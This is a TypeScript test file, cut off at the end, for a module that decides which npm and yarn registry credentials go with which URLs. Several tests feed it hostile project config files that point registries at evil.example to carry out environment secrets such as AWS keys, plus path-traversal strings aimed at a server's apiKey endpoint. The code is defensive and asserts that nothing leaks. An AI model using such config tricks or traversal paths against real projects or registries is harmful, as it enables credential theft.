// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${VAR}` is npmrc and yarnrc syntax here
import { describe, expect, it } from "vitest";
import { npmEnvReplace } from "../../../src/host/host.js";
import {
  authorizationFor,
  type CredentialFile,
  credentialTargets,
  findCredentials,
  nerfDart,
  publishRegistries,
  uploadBases,
  userNamedTargets,
  yarnEnvReplace,
  yarnPlaceholderKeys,
} from "../../../src/network/credentials.js";

const user = (text: string): CredentialFile => ({
  kind: "npmrc",
  label: "~/.npmrc",
  text,
  project: false,
});
const projectNpmrc = (text: string): CredentialFile => ({
  kind: "npmrc",
  label: "project .npmrc",
  text,
  project: true,
});
const userYarn = (text: string): CredentialFile => ({
  kind: "yarnrc",
  label: "~/.yarnrc.yml",
  text,
  project: false,
});
const projectYarn = (text: string): CredentialFile => ({
  kind: "yarnrc",
  label: "project .yarnrc.yml",
  text,
  project: true,
});

const npmAuth = (
  files: CredentialFile[],
  url: string,
  env: Record<string, string> = {},
): string | null => authorizationFor(findCredentials({ files, env, berry: false }), new URL(url));
const yarnAuth = (
  files: CredentialFile[],
  url: string,
  env: Record<string, string> = {},
): string | null => authorizationFor(findCredentials({ files, env, berry: true }), new URL(url));
const b64 = (s: string): string => Buffer.from(s, "utf8").toString("base64");

describe("nerfDart (npm's workspaces/config/lib/nerf-dart.js)", () => {
  it.each([
    ["https://registry.npmjs.org/", "//registry.npmjs.org/"],
    ["https://registry.npmjs.org", "//registry.npmjs.org/"],
    ["http://localhost:4873/some/path", "//localhost:4873/some/"],
    ["https://host/a/b/?q=1#x", "//host/a/b/"],
    ["https://host:443/npm/", "//host/npm/"],
    ["https://user:pw@host:8443/npm/", "//host:8443/npm/"],
  ])("%s → %s", (url, expected) => {
    expect(nerfDart(url)).toBe(expected);
  });
});

describe("npm: which key matches a URL (npm-registry-fetch auth.js)", () => {
  const rc = user(
    [
      "//registry.npmjs.org/:_authToken=npm-token",
      "//npm.pkg.github.com/:_authToken=gh-token",
      "//artifactory.example/api/npm/private/:_authToken=private-token",
      "//artifactory.example/api/npm/:_authToken=npm-wide-token",
      "//localhost:4873/:_authToken=local-token",
      "@acme:registry=https://npm.pkg.github.com/",
    ].join("\n"),
  );
  it.each([
    ["https://registry.npmjs.org/lodash", "Bearer npm-token"],
    ["https://registry.npmjs.org/@types%2fnode", "Bearer npm-token"],
    ["https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", "Bearer npm-token"],
    ["https://npm.pkg.github.com/@acme%2fwidget", "Bearer gh-token"],
    ["https://npm.pkg.github.com/download/@acme/widget/1.0.0/abc", "Bearer gh-token"],
    // the longest path prefix wins
    ["https://artifactory.example/api/npm/private/pkg", "Bearer private-token"],
    ["https://artifactory.example/api/npm/public/pkg", "Bearer npm-wide-token"],
    // without its trailing slash the last segment is a name: `//host/a/b` walks to `//host/a/`
    ["https://artifactory.example/api/npm/private", "Bearer npm-wide-token"],
    // ports are part of the key
    ["https://localhost:4873/pkg", "Bearer local-token"],
    // a user's scheme-less key goes over http only where the user's files name an http registry
    ["http://localhost:4873/pkg", null],
    ["http://localhost:4874/pkg", null],
    ["http://localhost/pkg", null],
    ["http://registry.npmjs.org/lodash", null],
    ["https://evil.example/lodash", null],
    // another host's name as a path prefix is no match
    ["https://evil.example/registry.npmjs.org/lodash", null],
  ])("%s → %s", (url, expected) => {
    expect(npmAuth([rc], url)).toBe(expected);
  });

  it("a key written with its default port does not match a URL without it, as in npm", () => {
    expect(npmAuth([user("//host:443/:_authToken=t")], "https://host/pkg")).toBeNull();
    expect(npmAuth([user("//host:8443/:_authToken=t")], "https://host:8443/pkg")).toBe("Bearer t");
  });

  it("_authToken before _auth before username/_password", () => {
    const all = [
      "//r.example/:_authToken=tok",
      `//r.example/:_auth=${b64("a:b")}`,
      "//r.example/:username=u",
      `//r.example/:_password=${b64("p")}`,
    ];
    expect(npmAuth([user(all.join("\n"))], "https://r.example/x")).toBe("Bearer tok");
    expect(npmAuth([user(all.slice(1).join("\n"))], "https://r.example/x")).toBe(
      `Basic ${b64("a:b")}`,
    );
    expect(npmAuth([user(all.slice(2).join("\n"))], "https://r.example/x")).toBe(
      `Basic ${b64("u:p")}`,
    );
    // a username without a password is no credential
    expect(npmAuth([user(all[2] ?? "")], "https://r.example/x")).toBeNull();
  });

  it("_password is base64 of the password, decoded before Basic is built", () => {
    const rc = user(`//r.example/:username=alice\n//r.example/:_password=${b64("pä:ss")}`);
    expect(npmAuth([rc], "https://r.example/x")).toBe(`Basic ${b64("alice:pä:ss")}`);
  });

  it("trailing slashes: `//host/path` and `//host/path/` are both keys npm walks through", () => {
    expect(npmAuth([user("//r.example/npm:_authToken=t")], "https://r.example/npm/x")).toBe(
      "Bearer t",
    );
    expect(npmAuth([user("//r.example/npm/:_authToken=t")], "https://r.example/npm/x")).toBe(
      "Bearer t",
    );
  });

  it("no key for the URL: the registry's credential when on the same host (scoped too)", () => {
    const rc = user(
      [
        "registry=https://r.example/npm/",
        "//r.example/npm/:_authToken=t",
        "@acme:registry=https://s.example/scoped/",
        "//s.example/scoped/:_authToken=s",
      ].join("\n"),
    );
    expect(npmAuth([rc], "https://r.example/tarballs/x/-/x-1.0.0.tgz")).toBe("Bearer t");
    // GitLab's instance-level registry serves scoped tarballs under each project's path.
    expect(
      npmAuth([rc], "https://s.example/api/v4/projects/7/packages/npm/@acme/y/-/@acme/y-1.0.0.tgz"),
    ).toBe("Bearer s");
    expect(npmAuth([rc], "http://r.example/tarballs/x/-/x-1.0.0.tgz")).toBeNull();
  });

  it("outside the registry's path the credential goes only with tarball reads", () => {
    const rc = user(
      [
        "registry=http://127.0.0.1:4802/api/npm/team/",
        "//127.0.0.1:4802/api/npm/team/:_authToken=USER-SECRET-TOKEN",
      ].join("\n"),
    );
    const creds = findCredentials({ files: [rc], env: {}, berry: false });
    const at = (method: string, url: string) => authorizationFor(creds, new URL(url), method);
    // Under the paired path: every request, as npm sends it.
    expect(at("GET", "http://127.0.0.1:4802/api/npm/team/p2")).toBe("Bearer USER-SECRET-TOKEN");
    expect(at("PUT", "http://127.0.0.1:4802/api/npm/team/p2")).toBe("Bearer USER-SECRET-TOKEN");
    // The server's own API on the same host: no credential.
    expect(at("GET", "http://127.0.0.1:4802/api/security/apiKey")).toBeNull();
    expect(at("GET", "http://127.0.0.1:4802/api/npm/other/p2")).toBeNull();
    expect(at("PUT", "http://127.0.0.1:4802/somewhere/else/p2")).toBeNull();
    expect(at("PUT", "http://127.0.0.1:4802/somewhere/else/p2.tgz")).toBeNull();
    expect(at("POST", "http://127.0.0.1:4802/api/x.tgz")).toBeNull();
    // A tarball served at another path (npm-registry-fetch's same-host fallback), where the
    // path has a tarball's shape: a `-` segment before the file (and its scope).
    const file = "http://127.0.0.1:4802/files/p2/-/p2-1.0.0.tgz";
    expect(at("GET", file)).toBe("Bearer USER-SECRET-TOKEN");
    expect(at("HEAD", file)).toBe("Bearer USER-SECRET-TOKEN");
    expect(at("GET", "http://127.0.0.1:4802/files/@s/p2/-/@s/p2-1.0.0.tgz")).toBe(
      "Bearer USER-SECRET-TOKEN",
    );
    // A `.tgz` suffix alone is no tarball: a server that ignores suffixes reads its own API.
    for (const path of [
      "/files/p2-1.0.0.tgz",
      "/api/security/apiKey.tgz",
      "/api/-/x/apiKey.tgz",
      "/api/-/@s/x/y.tgz",
      "/api/-/s/x.tgz",
      "/api/-/-/x.tgz",
      "/api/-rev/-/x.tgz",
    ])
      expect(at("GET", `http://127.0.0.1:4802${path}`), path).toBeNull();
  });

  it("a path a server may resolve outside the registry's carries no credential, npm and yarn", () => {
    const rc = user(
      [
        "registry=http://127.0.0.1:48761/npm/registry/",
        "//127.0.0.1:48761/npm/registry/:_authToken=SECRET",
      ].join("\n"),
    );
    const yrc = userYarn(
      [
        'npmRegistryServer: "http://127.0.0.1:48761/npm/registry"',
        'npmAuthToken: "SECRET"',
        "npmRegistries:",
        '  "http://127.0.0.1:48762/npm/registry":',
        '    npmAuthToken: "SECRET2"',
      ].join("\n"),
    );
    const npmCreds = findCredentials({ files: [rc], env: {}, berry: false });
    const yarnCreds = findCredentials({ files: [yrc], env: {}, berry: true });
    const npm = (p: string) => authorizationFor(npmCreds, new URL(`http://127.0.0.1:48761${p}`));
    const yarn = (p: string, port = 48761) =>
      authorizationFor(yarnCreds, new URL(`http://127.0.0.1:${port}${p}`));
    // Controls: the same shapes without the trick carry it.
    expect(npm("/npm/registry/x")).toBe("Bearer SECRET");
    expect(npm("/api/security/apiKey/-/apiKey.tgz")).toBe("Bearer SECRET");
    expect(yarn("/npm/registry/x")).toBe("Bearer SECRET");
    expect(yarn("/npm/registry/x", 48762)).toBe("Bearer SECRET2");
    for (const p of [
      "/npm/registry/..;/..;/api/security/apiKey",
      "/npm/registry/..%3b/..%3B/api/security/apiKey",
      "/npm/registry/..%5c..%5capi/security/apiKey",
      "/npm/registry/%252e%252e/%252e%252e/api/security/apiKey",
      "/npm/registry/.../api",
    ]) {
      expect(npm(p), p).toBeNull();
      expect(yarn(p), p).toBeNull();
      expect(yarn(p, 48762), p).toBeNull();
    }
    // The same-host tarball fallback wants no ";" anywhere in the path.
    expect(npm("/api/security/apiKey/-/apiKey;x.tgz")).toBeNull();
    expect(npm("/api/v4/user/-/;.tgz")).toBeNull();
  });

  it("always-auth changes nothing: a matching credential is always sent (npm 7+)", () => {
    const base = "//r.example/:_authToken=t";
    expect(npmAuth([user(`${base}\nalways-auth=false`)], "https://r.example/x")).toBe("Bearer t");
    expect(npmAuth([user(`${base}\nalways-auth=true`)], "https://r.example/x")).toBe("Bearer t");
  });

  it("legacy top-level _authToken applies to the default registry", () => {
    expect(npmAuth([user("_authToken=top")], "https://registry.npmjs.org/x")).toBe("Bearer top");
    expect(
      npmAuth([user("registry=http://r.example/\n_authToken=top")], "http://r.example/x"),
    ).toBe("Bearer top");
  });

  it("later files win key by key (global < user < project)", () => {
    const global: CredentialFile = {
      kind: "npmrc",
      label: "/usr/etc/npmrc",
      text: "//r.example/:_authToken=global\n//g.example/:_authToken=g",
      project: false,
    };
    const files = [
      global,
      user("//r.example/:_authToken=user"),
      projectNpmrc("//r.example/:_authToken=proj"),
    ];
    expect(npmAuth(files, "https://r.example/x")).toBe("Bearer proj");
    expect(npmAuth(files, "https://g.example/x")).toBe("Bearer g");
  });

  it("ignores keys inside a [section]", () => {
    expect(npmAuth([user("[x]\n//r.example/:_authToken=t")], "https://r.example/x")).toBeNull();
  });
});

describe("npm: ${VAR} expansion (@npmcli/config env-replace.js)", () => {
  it.each([
    ["${A}", { A: "1" }, "1"],
    ["x${A}y${B}", { A: "1", B: "2" }, "x1y2"],
    ["${MISSING}", {}, "${MISSING}"],
    ["${MISSING?}", {}, ""],
    ["${A?}", { A: "1" }, "1"],
    ["\\${A}", { A: "1" }, "${A}"],
    ["\\\\${A}", { A: "1" }, "\\1"],
    ["${EMPTY}", { EMPTY: "" }, ""],
  ])("%s → %s", (text, env, expected) => {
    expect(npmEnvReplace(text, env)).toBe(expected);
  });

  it("the actions/setup-node pattern takes the token from the host's environment", () => {
    const rc = user(
      "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}\n@acme:registry=https://npm.pkg.github.com/",
    );
    expect(
      npmAuth([rc], "https://npm.pkg.github.com/@acme%2fx", { NODE_AUTH_TOKEN: "ghp_1" }),
    ).toBe("Bearer ghp_1");
  });

  it("keys are expanded too", () => {
    const rc = user("//${REG_HOST}/:_authToken=t");
    expect(npmAuth([rc], "https://r.example/x", { REG_HOST: "r.example" })).toBe("Bearer t");
  });

  it("an unset variable is sent literally, as npm does, and noted", () => {
    const creds = findCredentials({
      files: [user("//r.example/:_authToken=${NOPE}")],
      env: {},
      berry: false,
    });
    expect(authorizationFor(creds, new URL("https://r.example/x"))).toBe("Bearer ${NOPE}");
    expect(creds.notes.join("\n")).toMatch(/unset environment variable/);
    // `${VAR?}` unset: an empty token is no credential
    expect(npmAuth([user("//r.example/:_authToken=${NOPE?}")], "https://r.example/x")).toBeNull();
  });
});

describe("project files are hostile: expansions only for hosts the user's config names", () => {
  it("a project .npmrc cannot send a host variable to a registry of its own", () => {
    const evil = projectNpmrc(
      "registry=https://evil.example/\n//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}",
    );
    const creds = findCredentials({
      files: [evil],
      env: { AWS_SECRET_ACCESS_KEY: "s3cr3t" },
      berry: false,
    });
    expect(authorizationFor(creds, new URL("https://evil.example/x"))).toBeNull();
    expect(creds.notes.join("\n")).toMatch(/project \.npmrc .*evil\.example.*not used/);
    expect(creds.notes.join("\n")).not.toContain("s3cr3t");
  });

  it("the committed setup-node line works when the user's config names the host", () => {
    const files = [
      user("@acme:registry=https://npm.pkg.github.com/"),
      projectNpmrc("//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}"),
    ];
    expect(npmAuth(files, "https://npm.pkg.github.com/@acme%2fx", { NODE_AUTH_TOKEN: "t" })).toBe(
      "Bearer t",
    );
  });

  it("a literal token in the project's .npmrc is used (it exposes nothing of the host's)", () => {
    expect(npmAuth([projectNpmrc("//r.example/:_authToken=literal")], "https://r.example/x")).toBe(
      "Bearer literal",
    );
  });

  it("the same rule for a project .yarnrc.yml", () => {
    const evil = projectYarn(
      'npmRegistryServer: "https://evil.example"\nnpmAuthToken: "${GITHUB_TOKEN}"',
    );
    expect(yarnAuth([evil], "https://evil.example/x", { GITHUB_TOKEN: "g" })).toBeNull();
    const ok = [
      userYarn('npmRegistryServer: "https://r.example"'),
      projectYarn('npmAuthToken: "${T}"'),
    ];
    expect(yarnAuth(ok, "https://r.example/x", { T: "t" })).toBe("Bearer t");
  });
});

describe("yarn berry (plugin-npm getAuthConfiguration)", () => {
  const rc = userYarn(
    [
      'npmAuthToken: "top-token"',
      "npmRegistries:",
      '  "//npm.pkg.github.com":',
      '    npmAuthToken: "gh-token"',
      '  "https://basic.example/npm/":',
      '    npmAuthIdent: "alice:pw"',
      "npmScopes:",
      "  acme:",
      '    npmRegistryServer: "https://npm.pkg.github.com"',
      "  corp:",
      '    npmAuthToken: "corp-token"',
      "  other:",
      '    npmRegistryServer: "https://scoped.example/"',
    ].join("\n"),
  );
  it.each([
    ["https://registry.yarnpkg.com/lodash", "Bearer top-token"],
    ["https://registry.yarnpkg.com/@corp%2fthing", "Bearer corp-token"],
    ["https://registry.yarnpkg.com/@corp/thing/-/thing-1.0.0.tgz", "Bearer corp-token"],
    ["https://npm.pkg.github.com/@acme%2fwidget", "Bearer gh-token"],
    ["https://basic.example/npm/pkg", `Basic ${b64("alice:pw")}`],
    // a scope's registry without its own credential takes the top level's
    ["https://scoped.example/@other%2fx", "Bearer top-token"],
    ["https://registry.npmjs.org/lodash", null],
    ["https://evil.example/lodash", null],
  ])("%s → %s", (url, expected) => {
    expect(yarnAuth([rc], url)).toBe(expected);
  });

  it("npmAuthIdent without a colon is already base64", () => {
    expect(
      yarnAuth([userYarn(`npmAuthIdent: "${b64("u:p")}"`)], "https://registry.yarnpkg.com/x"),
    ).toBe(`Basic ${b64("u:p")}`);
  });

  it("the project's .yarnrc.yml wins over ~/.yarnrc.yml", () => {
    const files = [userYarn('npmAuthToken: "user"'), projectYarn('npmAuthToken: "project"')];
    expect(yarnAuth(files, "https://registry.yarnpkg.com/x")).toBe("Bearer project");
  });

  it.each([
    ["${A}", { A: "1" }, "1"],
    ["${A:-d}", {}, "d"],
    ["${A:-d}", { A: "" }, "d"],
    ["${A-d}", { A: "" }, ""],
    ["${A-d}", {}, "d"],
    ["\\${A}", { A: "1" }, "${A}"],
    ["${A}", {}, null],
  ])("yarn's env expansion: %s → %s", (text, env, expected) => {
    expect(yarnEnvReplace(text, env)).toBe(expected);
  });

  it("a missing variable without a default skips the credential with a note", () => {
    const creds = findCredentials({
      files: [userYarn('npmAuthToken: "${NOPE}"')],
      env: {},
      berry: true,
    });
    expect(authorizationFor(creds, new URL("https://registry.yarnpkg.com/x"))).toBeNull();
    expect(creds.notes.join("\n")).toMatch(/npmAuthToken names an unset environment variable/);
  });

  it("yarn berry ignores .npmrc, npm ignores .yarnrc.yml", () => {
    const files = [
      user("//registry.yarnpkg.com/:_authToken=npm"),
      userYarn('npmAuthToken: "yarn"'),
    ];
    expect(yarnAuth(files, "https://registry.yarnpkg.com/x")).toBe("Bearer yarn");
    expect(npmAuth(files, "https://registry.yarnpkg.com/x")).toBe("Bearer npm");
  });
});

describe("credentialTargets", () => {
  it("a project's keys and registry URLs are not expanded with the host's environment", () => {
    const creds = findCredentials({
      files: [
        projectNpmrc(
          "registry=http://${SECRET}.evil.invalid:4801/\n//${SECRET}.evil.invalid:4801/:_authToken=x",
        ),
      ],
      env: { SECRET: "topsecretvalue123" },
      berry: false,
    });
    expect(
      JSON.stringify([credentialTargets(creds), [...creds.npm.keys()], creds.npmRegistries]),
    ).not.toContain("topsecretvalue123");
  });

  it("names host:port for both schemes of a nerf-dart key", () => {
    const creds = findCredentials({
      files: [user("//r.example/:_authToken=t\n//localhost:4873/:_authToken=l")],
      env: {},
      berry: false,
    });
    // The user's files name no http registry: https only.
    expect(credentialTargets(creds)).toEqual(["localhost:4873", "r.example:443"]);
    const http = findCredentials({
      files: [user("registry=http://r.example/\n//r.example/:_authToken=t")],
      env: {},
      berry: false,
    });
    expect(credentialTargets(http)).toEqual(["r.example:443", "r.example:80"]);
  });

  it("yarn: the server of the top-level credential and each registry entry", () => {
    const creds = findCredentials({
      files: [userYarn('npmRegistryServer: "http://127.0.0.1:4873"\nnpmAuthToken: "t"')],
      env: {},
      berry: true,
    });
    expect(credentialTargets(creds)).toEqual(["127.0.0.1:4873"]);
  });
});

describe("a user credential goes only to the registry the user's own files pair it with", () => {
  it("yarn: a project's npmRegistryServer does not carry the user's top-level token", () => {
    const files = [
      userYarn('npmAuthToken: "SECRET"'),
      projectYarn('npmRegistryServer: "http://127.0.0.1:18081"'),
    ];
    expect(yarnAuth(files, "http://127.0.0.1:18081/leftpad-x")).toBeNull();
    // Still sent to the registry the user's file pairs it with (yarn's default here).
    expect(yarnAuth(files, "https://registry.yarnpkg.com/leftpad-x")).toBe("Bearer SECRET");
    const creds = findCredentials({ files, env: {}, berry: true });
    expect(credentialTargets(creds)).toEqual(["registry.yarnpkg.com:443"]);
  });

  it("yarn: the top-level token stays on the user file's npmRegistryServer", () => {
    const files = [
      userYarn('npmRegistryServer: "https://npm.corp.example/r"\nnpmAuthToken: "SECRET"'),
      projectYarn('npmRegistryServer: "https://npm.corp.example/other"'),
    ];
    expect(yarnAuth(files, "https://npm.corp.example/other/x")).toBeNull();
    expect(yarnAuth(files, "https://npm.corp.example/r/x")).toBe("Bearer SECRET");
  });

  it("yarn: a project overriding only a user scope's server does not carry the scope's token", () => {
    const files = [
      userYarn(
        [
          "npmScopes:",
          "  corp:",
          '    npmRegistryServer: "https://npm.corp.example"',
          '    npmAuthToken: "SECRET"',
        ].join("\n"),
      ),
      projectYarn(
        ["npmScopes:", "  corp:", '    npmRegistryServer: "http://127.0.0.1:18081"'].join("\n"),
      ),
    ];
    expect(yarnAuth(files, "http://127.0.0.1:18081/@corp%2fx")).toBeNull();
    expect(yarnAuth(files, "https://npm.corp.example/@corp%2fx")).toBe("Bearer SECRET");
  });

  it("yarn: a user scope token without a server stays on the user's top-level server", () => {
    const files = [
      userYarn(["npmScopes:", "  corp:", '    npmAuthToken: "SECRET"'].join("\n")),
      projectYarn('npmRegistryServer: "http://127.0.0.1:18081"'),
    ];
    expect(yarnAuth(files, "http://127.0.0.1:18081/@corp%2fx")).toBeNull();
    expect(yarnAuth(files, "https://registry.yarnpkg.com/@corp%2fx")).toBe("Bearer SECRET");
  });

  it("yarn: the project's own literal token still goes to the project's server", () => {
    const files = [projectYarn('npmRegistryServer: "https://r.example"\nnpmAuthToken: "proj"')];
    expect(yarnAuth(files, "https://r.example/x")).toBe("Bearer proj");
  });

  it.each([
    ["_authToken=SECRET", "Bearer SECRET"],
    [`_auth=${b64("u:p")}`, `Basic ${b64("u:p")}`],
  ])("npm: a legacy top-level %s is not sent to a project's registry", (line, header) => {
    const files = [user(line), projectNpmrc("registry=http://127.0.0.1:18081/")];
    expect(npmAuth(files, "http://127.0.0.1:18081/leftpad-y")).toBeNull();
    expect(npmAuth(files, "https://registry.npmjs.org/leftpad-y")).toBe(header);
  });

  it("npm: a legacy top-level token goes to the registry its own file names", () => {
    const files = [
      user("registry=https://npm.corp.example/r/\n_authToken=SECRET"),
      projectNpmrc("registry=https://npm.corp.example/evil/"),
    ];
    expect(npmAuth(files, "https://npm.corp.example/evil/x")).toBeNull();
    expect(npmAuth(files, "https://npm.corp.example/r/x")).toBe("Bearer SECRET");
    expect(npmAuth(files, "http://npm.corp.example/r/x")).toBeNull();
  });

  it("npm: a project's ${VAR} credential needs the same port as a user registry, not just the host", () => {
    const files = [
      user("registry=http://localhost:4873/"),
      projectNpmrc(
        "@x:registry=http://localhost:3999/\n//localhost:3999/:_authToken=${SECRET_ENV}",
      ),
    ];
    const env = { SECRET_ENV: "SECRET" };
    expect(npmAuth(files, "http://localhost:3999/@x/y", env)).toBeNull();
    expect(findCredentials({ files, env, berry: false }).notes.join("\n")).toMatch(
      /\/\/localhost:3999\/.*which no user config names/,
    );
    const same = [
      user("registry=http://localhost:4873/"),
      projectNpmrc("//localhost:4873/:_authToken=${SECRET_ENV}"),
    ];
    expect(npmAuth(same, "http://localhost:4873/@x/y", env)).toBe("Bearer SECRET");
  });

  it("npm: a project's ${VAR} credential needs the user's path prefix and scheme", () => {
    const env = { T: "SECRET" };
    const prefixed = [
      user("registry=https://r.example/npm/"),
      projectNpmrc("//r.example/:_authToken=${T}"),
    ];
    expect(npmAuth(prefixed, "https://r.example/other/x", env)).toBeNull();
    const https = [
      user("registry=https://r.example:8443/"),
      projectNpmrc("//r.example:8443/:_authToken=${T}"),
    ];
    expect(npmAuth(https, "https://r.example:8443/x", env)).toBe("Bearer SECRET");
    expect(npmAuth(https, "http://r.example:8443/x", env)).toBeNull();
  });

  it("yarn: a project's ${VAR} credential needs the same port as a user registry", () => {
    const files = [
      userYarn('npmRegistryServer: "http://localhost:4873"'),
      projectYarn('npmRegistryServer: "http://localhost:3999"\nnpmAuthToken: "${T}"'),
    ];
    expect(yarnAuth(files, "http://localhost:3999/x", { T: "SECRET" })).toBeNull();
    const keyed = [
      userYarn('npmRegistryServer: "http://localhost:4873"'),
      projectYarn(
        ["npmRegistries:", '  "//localhost:3999":', '    npmAuthToken: "${T}"'].join("\n"),
      ),
    ];
    expect(yarnAuth(keyed, "http://localhost:3999/x", { T: "SECRET" })).toBeNull();
    const same = [
      userYarn('npmRegistryServer: "http://localhost:4873"'),
      projectYarn(
        ["npmRegistries:", '  "//localhost:4873":', '    npmAuthToken: "${T}"'].join("\n"),
      ),
    ];
    expect(yarnAuth(same, "http://localhost:4873/x", { T: "SECRET" })).toBe("Bearer SECRET");
  });

  it("npm: a user credential paired with https is never added to plain http", () => {
    const files = [
      user("registry=https://127.0.0.1:18082/\n//127.0.0.1:18082/:_authToken=SECRET"),
      projectNpmrc("registry=http://127.0.0.1:18082/"),
    ];
    expect(npmAuth(files, "http://127.0.0.1:18082/leftpad-z")).toBeNull();
    expect(npmAuth(files, "https://127.0.0.1:18082/leftpad-z")).toBe("Bearer SECRET");
    const creds = findCredentials({ files, env: {}, berry: false });
    expect(credentialTargets(creds)).toEqual(["127.0.0.1:18082"]);
  });

  it("npm: a user's scheme-less key goes over http only when the user's files name http there", () => {
    // The project's scope line cannot have the user's token sent in clear.
    const bare = [
      user("//localhost/:_authToken=T"),
      projectNpmrc("@evil:registry=http://localhost/"),
    ];
    expect(npmAuth(bare, "http://localhost/@evil%2fx")).toBeNull();
    expect(npmAuth(bare, "https://localhost/@evil%2fx")).toBe("Bearer T");
    const project = [
      user("//127.0.0.1:4873/:_authToken=T"),
      projectNpmrc("registry=http://127.0.0.1:4873/"),
    ];
    expect(npmAuth(project, "http://127.0.0.1:4873/x")).toBeNull();
    const userScope = [
      user("@acme:registry=http://127.0.0.1:4873/\n//127.0.0.1:4873/:_authToken=T"),
    ];
    expect(npmAuth(userScope, "http://127.0.0.1:4873/x")).toBe("Bearer T");
    const http = [user("registry=http://127.0.0.1:4873/\n//127.0.0.1:4873/:_authToken=T")];
    expect(npmAuth(http, "http://127.0.0.1:4873/x")).toBe("Bearer T");
  });

  it("yarn: a user's scheme-less npmRegistries key goes over http only when the user names http", () => {
    const keyed = (extra: string) =>
      userYarn(
        [extra, "npmRegistries:", '  "//127.0.0.1:18082":', '    npmAuthToken: "SECRET"'].join(
          "\n",
        ),
      );
    const files = [keyed(""), projectYarn('npmRegistryServer: "http://127.0.0.1:18082"')];
    expect(yarnAuth(files, "http://127.0.0.1:18082/x")).toBeNull();
    expect(yarnAuth(files, "https://127.0.0.1:18082/x")).toBe("Bearer SECRET");
    const named = [keyed('npmRegistryServer: "http://127.0.0.1:18082"')];
    expect(yarnAuth(named, "http://127.0.0.1:18082/x")).toBe("Bearer SECRET");
  });

  it("yarn: a user credential paired with https is never added to plain http", () => {
    const files = [
      userYarn('npmRegistryServer: "https://127.0.0.1:18082"\nnpmAuthToken: "SECRET"'),
      projectYarn('npmRegistryServer: "http://127.0.0.1:18082"'),
    ];
    expect(yarnAuth(files, "http://127.0.0.1:18082/x")).toBeNull();
    const keyed = [
      userYarn(
        ["npmRegistries:", '  "https://127.0.0.1:18082":', '    npmAuthToken: "SECRET"'].join("\n"),
      ),
    ];
    expect(yarnAuth(keyed, "http://127.0.0.1:18082/x")).toBeNull();
    expect(yarnAuth(keyed, "https://127.0.0.1:18082/x")).toBe("Bearer SECRET");
  });
});

describe("yarnPlaceholderKeys: where yarn berry inside gets a placeholder token to publish", () => {
  it("each pinned server with its scheme, each npmRegistries key (https: when https only)", () => {
    const creds = findCredentials({
      files: [
        userYarn(
          'npmRegistryServer: "https://npm.corp.example/npm/"\nnpmAuthToken: "t1"\nnpmRegistries:\n  "//npm.pkg.github.com":\n    npmAuthToken: "t2"\n  "http://127.0.0.1:4873":\n    npmAuthToken: "t3"\n',
        ),
      ],
      env: {},
      berry: true,
    });
    // A scheme-less key of the user's is https only unless the user's files name http there.
    expect(yarnPlaceholderKeys(creds)).toEqual([
      "//127.0.0.1:4873",
      "https://npm.corp.example/npm",
      "https://npm.pkg.github.com",
    ]);
    expect(JSON.stringify(yarnPlaceholderKeys(creds))).not.toMatch(/t1|t2|t3/);
  });
  it("none for npm-style credentials", () => {
    const creds = findCredentials({
      files: [user("//r.example/:_authToken=x\n")],
      env: {},
      berry: false,
    });
    expect(yarnPlaceholderKeys(creds)).toEqual([]);
  });
});

describe("uploadBases: where a publish may upload on a host", () => {
  it("the path the credential is paired with; else the registry's; else the root", () => {
    const rc = user(
      "registry=http://127.0.0.1:4802/api/npm/team/\n//127.0.0.1:4802/api/npm/team/:_authToken=t",
    );
    const creds = findCredentials({
      files: [rc, projectNpmrc("@evil:registry=http://127.0.0.1:4802/somewhere/else/\n")],
      env: {},
      berry: false,
    });
    expect(uploadBases(creds, new URL("http://127.0.0.1:4802/x"))).toEqual(["/api/npm/team/"]);
    const anonymous = findCredentials({
      files: [user("registry=http://127.0.0.1:4873/npm/")],
      env: {},
      berry: false,
    });
    expect(uploadBases(anonymous, new URL("http://127.0.0.1:4873/x"))).toEqual(["/npm/"]);
    expect(uploadBases(anonymous, new URL("http://other.example/x"))).toEqual(["/"]);
  });
});

describe("userNamedTargets: where another run's proxy may send a held credential", () => {
  it("takes registries and credential keys from the user's files only, with default ports", () => {
    const targets = userNamedTargets(
      [
        {
          kind: "npmrc",
          label: "~/.npmrc",
          text: "@x:registry=http://verdaccio.local:4873/\n//localhost:4874/:_authToken=t\n//npm.corp.example/:_auth=x\n",
          project: false,
        },
        {
          kind: "yarnrc",
          label: "~/.yarnrc.yml",
          text: 'npmRegistries:\n  "http://[::1]:4875":\n    npmAuthToken: "t"\n',
          project: false,
        },
        {
          kind: "npmrc",
          label: "project .npmrc",
          text: "registry=http://localhost:9999/\n//localhost:9998/:_authToken=t\n",
          project: true,
        },
      ],
      {},
    );
    expect(targets).toEqual([
      "[::1]:4875",
      "localhost:4874",
      "npm.corp.example:443",
      "npm.corp.example:80",
      "verdaccio.local:4873",
    ]);
  });
});

describe("publishRegistries: where a publish of a package goes, as the manager decides it", () => {
  const npm = (files: CredentialFile[], name: string, env: Record<string, string> = {}) =>
    publishRegistries(files, env, name, { explicit: null, berry: false });
  const berry = (files: CredentialFile[], name: string) =>
    publishRegistries(files, {}, name, { explicit: null, berry: true });
  const rc = user(
    "registry=https://corp.example/npm/\n@oss:registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=t\n",
  );

  it("npm: the scope's registry, else the default one; the project's over the user's; the environment over both", () => {
    expect(npm([rc], "internal")).toEqual(["https://corp.example/npm/"]);
    expect(npm([rc], "@oss/lib")).toEqual(["https://registry.npmjs.org/"]);
    expect(npm([rc], "@other/lib")).toEqual(["https://corp.example/npm/"]);
    expect(npm([], "internal")).toEqual(["https://registry.npmjs.org/"]);
    const project = projectNpmrc("@other:registry=https://p.example/\n");
    expect(npm([rc, project], "@other/lib")).toEqual(["https://p.example/"]);
    expect(npm([rc], "internal", { npm_config_registry: "https://env.example/" })).toEqual([
      "https://env.example/",
    ]);
  });

  it("pnpm 11+: its YAML registries are accepted too", () => {
    const yaml =
      'registry: "https://ws.example/"\nregistries:\n  default: "https://d.example/"\n  "@acme": "https://acme.example/"\n';
    const pnpm = (name: string) =>
      publishRegistries([rc], {}, name, { explicit: null, berry: false, pnpmYaml: [yaml] });
    expect(pnpm("internal")).toEqual([
      "https://corp.example/npm/",
      "https://ws.example/",
      "https://d.example/",
    ]);
    expect(pnpm("@acme/x")).toEqual([
